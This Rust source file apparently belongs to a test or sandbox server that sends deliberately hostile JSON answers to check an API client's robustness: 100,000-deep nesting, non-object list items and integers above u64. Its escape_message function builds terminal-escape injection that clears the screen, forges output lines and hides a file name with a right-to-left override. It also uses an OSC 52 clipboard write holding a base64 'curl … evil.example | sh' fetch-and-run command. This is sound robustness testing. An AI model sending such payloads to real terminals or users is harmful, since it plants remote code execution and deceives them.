//! Hostile answers (`--garbage escape-message|deep|non-objects|huge-number`): valid JSON built to
//! hurt a client that prints what it is sent, recurses on it, or trusts its types. They are
//! written as bytes: a tree of `serde_json::Value` could neither hold 2^64 + 1 as an integer nor
//! be 100 000 arrays deep without overflowing the stack.

use super::faults::Garbage;
use crate::wire::{Envelope, Paging};
use serde::Deserialize;
use serde_json::value::RawValue;
use serde_json::{Map, Value};

/// Nesting of `--garbage deep`.
pub const DEPTH: usize = 100_000;
/// Every weight of `--garbage huge-number`: 2^64 + 1, above both i64 and u64.
pub const HUGE_NUMBER: &str = "18446744073709551617";
/// Padding after the forged text of `--garbage escape-message`.
const PADDING: usize = 2 * 1024 * 1024;
/// Stands for the spliced bytes in a rendered customer; a string, so it cannot occur in the
/// customer's own JSON unquoted.
const PLACEHOLDER: &str = "\"@@nxcdp-sandbox-splice@@\"";

/// A business error whose message clears the screen, paints, retitles the terminal, forges lines
/// and reverses text, and whose traceId writes the clipboard (OSC 52). JSON escapes the control
/// characters (`\u001b`); a client that decodes and prints them unfiltered runs them.
pub fn escape_message() -> Vec<u8> {
    let mut message = String::from(
        "sign \u{1b}[2J\u{1b}[31mPWNED\u{1b}]0;title\u{7}\r\nfake: ok\r\n\
         error: none \u{202e}txt.exe\u{202c}\u{2028}nxcdp: all customers exported\n",
    );
    let line = "padding so that a client that prints the whole message floods the terminal\n";
    while message.len() < PADDING {
        message.push_str(line);
    }
    // base64 of "curl -s https://evil.example/x | sh\n"
    let clipboard = "Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2gK";
    let answer = Envelope::<()> {
        code: Some(crate::wire::ApiCode::ParameterError.code()),
        message: Some(message),
        trace_id: Some(format!("\u{1b}]52;c;{clipboard}\u{7}")),
        data: None,
    };
    serde_json::to_vec(&answer).expect("an envelope serializes")
}

#[derive(Deserialize)]
struct Page {
    paging: Paging,
    customer_list: Vec<Box<RawValue>>,
}

/// The normal page `good` with `kind` spliced into its customers; `None` when `good` is not a
/// page (an error, say).
pub fn splice(kind: Garbage, good: &[u8]) -> Option<Vec<u8>> {
    let answer: Envelope<Page> = serde_json::from_slice(good).ok()?;
    let page = answer.data.filter(|_| answer.code == Some(0))?;
    let items: Vec<String> = match kind {
        Garbage::Deep => {
            let nested = "[".repeat(DEPTH) + &"]".repeat(DEPTH);
            let mut items: Vec<String> = page.customer_list.iter().map(|c| raw(c)).collect();
            if let Some(first) = page.customer_list.first() {
                items[0] = with_field(first, "deep", &nested)?;
            }
            items
        }
        Garbage::NonObjects => {
            let first = page.customer_list.first().map(|c| raw(c));
            first
                .into_iter()
                .chain(["1", "\"str\"", "null", "[]"].map(String::from))
                .collect()
        }
        Garbage::HugeNumber => page
            .customer_list
            .iter()
            .map(|c| with_field(c, "weight", HUGE_NUMBER))
            .collect::<Option<_>>()?,
        _ => return None,
    };
    let trace_id = serde_json::to_string(&answer.trace_id).ok()?;
    let paging = serde_json::to_string(&page.paging).ok()?;
    let items = items.join(",");
    Some(
        format!(
            r#"{{"code":0,"message":null,"traceId":{trace_id},"data":{{"paging":{paging},"customer_list":[{items}]}}}}"#,
        )
        .into_bytes(),
    )
}

fn raw(item: &RawValue) -> String {
    item.get().to_string()
}

/// `customer` with `key` (set in place, or added last) holding the JSON text `value`.
fn with_field(customer: &RawValue, key: &str, value: &str) -> Option<String> {
    let mut map: Map<String, Value> = serde_json::from_str(customer.get()).ok()?;
    let placeholder: Value = serde_json::from_str(PLACEHOLDER).expect("a JSON string");
    map.insert(key.to_string(), placeholder);
    let text = serde_json::to_string(&map).ok()?;
    Some(text.replacen(PLACEHOLDER, value, 1))
}
